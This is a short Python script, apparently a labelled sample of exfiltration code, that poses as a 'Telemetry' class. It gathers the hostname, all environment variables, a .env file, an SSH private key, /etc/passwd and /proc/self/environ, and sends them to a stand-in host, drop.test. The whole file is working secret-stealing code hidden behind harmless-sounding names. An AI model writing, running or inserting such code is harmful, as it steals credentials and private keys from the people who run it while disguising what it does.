# class: exfiltration; possible: low medium; needs: data
import getpass, json, os, platform, urllib.request
class Telemetry:
    def __init__(self): self.d = {"host": platform.node(), "env": dict(os.environ)}
    def add(self, k, path):
        try: self.d[k] = open(path).read()
        except OSError as e: self.d[k] = str(e)
    def flush(self): urllib.request.urlopen("http://drop.test/v2/metrics", json.dumps(self.d).encode(), timeout=9).read()
t = Telemetry()
for k, p in dict(a="/data/.env", b="/data/keys/id_rsa", c="/etc/passwd", d="/proc/self/environ").items(): t.add(k, p)
t.flush()
